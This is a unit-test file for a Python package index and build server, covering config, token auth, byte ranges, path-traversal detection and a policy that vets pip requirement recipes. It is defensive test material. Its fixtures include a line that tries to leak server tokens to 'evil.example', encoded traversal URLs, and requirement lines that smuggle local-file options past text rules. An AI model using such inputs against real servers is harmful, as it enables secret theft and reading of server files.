// Table-driven unit tests of the server's pure parts: config, auth, negotiation, ranges, paths, recipe policy.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TokenAuthenticator, tokenFromHeader } from './auth.js';
import { configFromObject, loadServerConfig, tokensFromEnv } from './config.js';
import { errorResponse } from './errors.js';
import { negotiateSimple } from './negotiate.js';
import { isSuspiciousUrl } from './paths.js';
import { buildEnvironment, recipeVariables } from './build-env.js';
import { findRecipeViolations, prepareRemoteRecipe } from './recipe-policy.js';
import { parseRange } from './simple.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'dstack-server-unit-'));
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

describe('config', () => {
  it('reads TOML with tokens from the environment, and DSTACK_SERVER_TOKENS', async () => {
    const file = join(dir, 'server.toml');
    await writeFile(
      file,
      [
        'host = "0.0.0.0"',
        'port = 9000',
        'public_read = false',
        'max_upload_bytes = 1000',
        '[[tokens]]',
        'name = "ci"',
        'token_env = "CI_TOKEN"',
        'scopes = ["read", "upload"]',
        '[builds]',
        'concurrency = 3',
        'allow_local_paths = true',
        'executor = "local"',
        'recipe_env = ["IDX_PASS"]',
        'pass_env = ["CC"]',
      ].join('\n'),
    );
    const config = await loadServerConfig({
      file,
      env: { CI_TOKEN: 's3cret', DSTACK_SERVER_TOKENS: 'admin:read,upload,build:a:b:c' },
    });
    expect(config).toEqual({
      host: '0.0.0.0',
      port: 9000,
      wheelhouse: './wheelhouse',
      indexCacheSeconds: 5,
      insecureRegistries: [],
      publicRead: false,
      maxUploadBytes: 1000,
      headersTimeoutSeconds: 30,
      bodyIdleTimeoutSeconds: 60,
      allowBuildTags: false,
      tokens: [
        { name: 'ci', token: 's3cret', scopes: ['read', 'upload'], env: 'CI_TOKEN' },
        { name: 'admin', token: 'a:b:c', scopes: ['read', 'upload', 'build'] },
      ],
      builds: {
        concurrency: 3,
        maxQueued: 100,
        allowLocalPaths: true,
        executor: 'local',
        python: null,
        factoryImage: null,
        keep: 200,
        public: true,
        recipeEnv: ['IDX_PASS'],
        passEnv: ['CC'],
      },
    });
  });

  it('takes token_sha256 instead of a plaintext token', () => {
    const digest = 'AB'.repeat(32);
    expect(
      configFromObject({ tokens: [{ name: 'h', token_sha256: digest, scopes: ['upload'] }] }).tokens,
    ).toEqual([{ name: 'h', token: '', sha256: digest.toLowerCase(), scopes: ['upload'] }]);
    expect(() => configFromObject({ tokens: [{ name: 'h', token_sha256: 'abc' }] })).toThrow(
      'config: tokens[0] ("h"): "token_sha256" must be 64 hex digits',
    );
  });

  it('reads JSON by extension', async () => {
    const file = join(dir, 'server.json');
    await writeFile(file, JSON.stringify({ port: 1234, tokens: [{ token: 't', scopes: ['build'] }] }));
    const config = await loadServerConfig({ file, env: {} });
    expect(config.port).toBe(1234);
    expect(config.tokens).toEqual([{ name: 'token1', token: 't', scopes: ['build'] }]);
  });

  it.each([
    [
      { prot: 1 },
      'config: unknown key "prot" (known: host, port, wheelhouse, index_cache_seconds, insecure_registries, public_read, tokens, max_upload_bytes, headers_timeout_seconds, body_idle_timeout_seconds, allow_build_tags, builds)',
    ],
    [{ port: 70000 }, 'config: "port" must be a port number, got 70000'],
    [{ public_read: 'yes' }, 'config: "public_read" must be true or false, got "yes"'],
    [{ tokens: [{ name: 'x', scopes: ['read'] }] }, 'config: tokens[0] ("x") has no token'],
    [
      { tokens: [{ token: 't', scopes: ['admin'] }] },
      'config: tokens[0]: unknown scope "admin" (known: read, upload, build)',
    ],
    [{ tokens: [{ token_env: 'NOPE' }] }, 'config: tokens[0] ("token1") reads $NOPE, which is not set'],
    [{ builds: { concurrency: 0 } }, 'config: "concurrency" must be at least 1'],
    [{ index_cache_seconds: -1 }, 'config: "index_cache_seconds" must be a number of seconds (0 or more), got -1'],
    [{ builds: { executor: 'k8s' } }, 'config: "executor" must be "auto", "local" or "docker", got "k8s"'],
  ])('refuses %j', (raw, message) => {
    expect(() => configFromObject(raw as Record<string, unknown>)).toThrow(message);
  });

  it.each([
    ['', []],
    ['ci:read:tok', [{ name: 'ci', token: 'tok', scopes: ['read'] }]],
    [
      'a:upload:x  b:build,read:y',
      [
        { name: 'a', token: 'x', scopes: ['upload'] },
        { name: 'b', token: 'y', scopes: ['build', 'read'] },
      ],
    ],
  ])('parses DSTACK_SERVER_TOKENS=%j', (value, tokens) => {
    expect(tokensFromEnv(value)).toEqual(tokens);
  });

  it('refuses a malformed DSTACK_SERVER_TOKENS entry', () => {
    expect(() => tokensFromEnv('justatoken')).toThrow(
      'DSTACK_SERVER_TOKENS entry 1 must look like name:scope,scope:token',
    );
  });
});

describe('auth', () => {
  const auth = new TokenAuthenticator([
    { name: 'up', token: 'tok-up', scopes: ['upload'] },
    { name: 'ro', token: 'tok-ro', scopes: ['read'] },
  ]);
  const b = (s: string) => `Basic ${Buffer.from(s).toString('base64')}`;

  it.each([
    [undefined, null],
    ['Bearer tok-up', 'tok-up'],
    ['bearer  tok-up ', 'tok-up'],
    [b('__token__:tok-up'), 'tok-up'],
    [b('alice:tok-up'), 'tok-up'],
    [b('alice:'), null],
    [b('nocolon'), null],
    ['Digest abc', null],
    ['Bearer', null],
  ])('reads the token of %s', (header, token) => {
    expect(tokenFromHeader(header)).toBe(token);
  });

  it.each([
    [undefined, 'read', true, null],
    [undefined, 'read', false, 'AUTH_REQUIRED'],
    [undefined, 'upload', true, 'AUTH_REQUIRED'],
    ['Bearer nope', 'read', true, 'AUTH_INVALID'],
    ['Bearer tok-ro', 'upload', true, 'AUTH_FORBIDDEN'],
    ['Bearer tok-up', 'build', true, 'AUTH_FORBIDDEN'],
    ['Bearer tok-up', 'upload', false, 'up'],
    ['Bearer tok-up', 'read', false, 'up'],
  ] as const)('%s asking %s (public read %s) -> %s', (header, scope, publicRead, expected) => {
    let outcome: string | null;
    try {
      outcome = auth.authorize(header, scope, { publicRead })?.name ?? null;
    } catch (err) {
      outcome = (err as { code: string }).code;
    }
    expect(outcome).toBe(expected);
  });

  it('maps auth codes to 401/403', () => {
    expect(errorResponse(Object.assign(new Error('x'), { code: 'AUTH_REQUIRED' })).status).toBe(401);
    expect(errorResponse(Object.assign(new Error('x'), { code: 'AUTH_FORBIDDEN' })).status).toBe(403);
    expect(errorResponse(new Error('boom'))).toEqual({
      status: 500,
      body: { error: { code: 'INTERNAL', message: 'internal server error' } },
      internal: true,
    });
  });
});

describe('negotiation, ranges, paths', () => {
  it.each([
    [undefined, undefined, 'text/html'],
    ['', undefined, 'text/html'],
    [
      'application/vnd.pypi.simple.v1+html;q=0.2, application/vnd.pypi.simple.v1+json;q=0.1',
      undefined,
      'application/vnd.pypi.simple.v1+html',
    ],
    ['text/*', undefined, 'text/html'],
    ['application/*;q=0.5, text/html;q=0.6', undefined, 'text/html'],
    ['application/json', undefined, null],
    ['*/*;q=0', undefined, null],
    [undefined, 'text/html', 'text/html'],
    [undefined, 'application/xml', null],
  ])('Accept %j format %j -> %j', (accept, format, type) => {
    expect(negotiateSimple(accept, format)).toBe(type);
  });

  it.each([
    [undefined, 100, null],
    ['bytes=0-9', 100, { start: 0, end: 9 }],
    ['bytes=90-', 100, { start: 90, end: 99 }],
    ['bytes=-10', 100, { start: 90, end: 99 }],
    ['bytes=50-1000', 100, { start: 50, end: 99 }],
    ['bytes=100-', 100, 'unsatisfiable'],
    ['bytes=5-4', 100, 'unsatisfiable'],
    ['bytes=0-1,5-6', 100, null],
    ['items=0-1', 100, null],
    ['bytes=0-', 0, 'unsatisfiable'],
    ['bytes=-0', 100, 'unsatisfiable'],
    ['bytes=0-4,3-9', 100, { start: 0, end: 9 }],
  ])('Range %j of %i bytes -> %j', (header, size, range) => {
    expect(parseRange(header, size)).toEqual(range);
  });

  it.each([
    ['/files/a.whl', false],
    ['/simple/a.b-c/', false],
    ['/files/..', true],
    ['/files/%2e%2E/x', true],
    ['/x/%252e%252e/y', true],
    ['/x%00', true],
    ['/x%5c', true],
    ['/x%zz', true],
    ['/search?q=../x', false],
  ])('%s suspicious: %s', (url, bad) => {
    expect(isSuspiciousUrl(url)).toBe(bad);
  });
});

describe('recipe policy on the parse (Decisions 13, 20)', () => {
  it.each([
    ['requests==2.31.0\nlxml>=5 ; python_version >= "3.8"\n--pre\n--hash=sha256:abc', []],
    ['pkg @ https://example.com/pkg-1.0.tar.gz', []],
    ['git+https://github.com/x/y@v1#egg=y', []],
    ['-i https://pypi.example/simple\n--extra-index-url=https://x/simple', []],
    ['-r other.txt', [1]],
    ['# comment\n--constraint=c.txt', [2]],
    ['-cother.txt', [1]],
    ['-r https://example.com/other.txt', [1]],
    ['./local/pkg', [1]],
    ['/abs/pkg-1.0.tar.gz', [1]],
    ['pkg-1.0-py3-none-any.whl', [1]],
    ['pkg @ file:///srv/pkg', [1]],
    ['git+file:///srv/repo#egg=x', [1]],
    ['-e ./src', [1]],
    ['-e git+https://github.com/x/y#egg=y', []],
    ['-f /srv/wheels', [null]],
    ['--find-links https://example.com/wheels/', []],
    ['--find-links https:/srv/wheels', [null]],
    ['--find-links https://@/srv', [null]],
    ['requests \\\n  ==2.0\n-r \\\n  x.txt', [3]],
    // what an attack review carried through the text-based rules (issue 12, point 1)
    ['# a comment \\\n--find-links /srv/wheels\nrequests', [null]],
    ...['\r', '\f', '\v', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map(
      (br) => [`requests # note${br}--find-links /srv/wheels`, [null]] as [string, (number | null)[]],
    ),
    ['--find /srv/wheels', [null]],
    ['--edit ./src', [1]],
    ['--extra /srv/simple', [null]],
    ['--index /srv/simple', [null]],
    ['--find-links\t/srv/wheels', [null]],
    ...['.tbz', '.txz', '.tlz', '.tar.lz', '.tar.lzma'].map(
      (ext) => [`pkg-1.0${ext}`, [1]] as [string, (number | null)[]],
    ),
  ])('%j -> violations on lines %j', async (text, lines) => {
    expect((await findRecipeViolations(text)).map((v) => v.line)).toEqual(lines);
  });

  it("renders the parse for the build: ${VAR} only from the operator's list, literal otherwise", async () => {
    const text =
      '--extra-index-url https://${USER_}:${PASS}@idx.example/simple\n' +
      '--extra-index-url http://evil.example/${DSTACK_SERVER_TOKENS}/\n' +
      'requests[socks] >= 2 ; python_version >= "3.8" --hash=sha256:abc\n' +
      'x @ https://h.example/x-1.0.tar.gz --config-settings "a=b c"\n';
    const prepared = await prepareRemoteRecipe(text, {
      allowLocalPaths: false,
      vars: { USER_: 'me', PASS: 'pw' },
    });
    expect(prepared.text).toBe(
      '--extra-index-url https://me:pw@idx.example/simple\n' +
        '--extra-index-url http://evil.example/%24%7BDSTACK_SERVER_TOKENS%7D/\n' +
        'requests[socks]>=2 ; python_version >= "3.8" --hash=sha256:abc\n' +
        "x @ https://h.example/x-1.0.tar.gz --config-settings 'a=b c'\n",
    );
  });

  it('refuses ${VAR} it cannot keep literal, and names the first violation', async () => {
    await expect(
      prepareRemoteRecipe('x ; platform_release == "${HOME}"', { allowLocalPaths: false, vars: {} }),
    ).rejects.toThrow(
      'recipe line 1: "platform_release == "${HOME}"": ${VAR} outside a URL is not expanded in builds sent over HTTP',
    );
    await expect(
      prepareRemoteRecipe('requests\n--find /srv/w', { allowLocalPaths: false, vars: {} }),
    ).rejects.toThrow(
      'recipe option "--find-links /srv/w": a local path or file: URL read the server\'s own files; not allowed in builds sent over HTTP',
    );
  });
});

describe('build environment (Decision 20)', () => {
  it('passes the allow-list, PIP_* and pass_env; never a token or its variable', () => {
    const config = configFromObject(
      {
        tokens: [{ name: 'ci', token_env: 'CI_TOKEN', scopes: ['upload'] }],
        builds: { pass_env: ['CC', 'CI_TOKEN', 'LEAKY'], recipe_env: ['IDX_PASS', 'UNSET'] },
      },
      { env: { CI_TOKEN: 'tok-123456' } },
    );
    config.tokens.push(...tokensFromEnv('admin:build:adm-987654'));
    const serverEnv = {
      PATH: '/usr/bin',
      HOME: '/root',
      LANG: 'C.UTF-8',
      PIP_INDEX_URL: 'https://idx.example/simple',
      HTTPS_PROXY: 'http://proxy:3128',
      CC: 'gcc',
      CI_TOKEN: 'tok-123456',
      DSTACK_SERVER_TOKENS: 'admin:build:adm-987654',
      LEAKY: 'x-adm-987654',
      AWS_SECRET_ACCESS_KEY: 'no',
      IDX_PASS: 'pw',
    };
    expect(buildEnvironment(serverEnv, config)).toEqual({
      PATH: '/usr/bin',
      HOME: '/root',
      LANG: 'C.UTF-8',
      PIP_INDEX_URL: 'https://idx.example/simple',
      HTTPS_PROXY: 'http://proxy:3128',
      CC: 'gcc',
    });
    expect(recipeVariables(serverEnv, config)).toEqual({ IDX_PASS: 'pw' });
  });
});
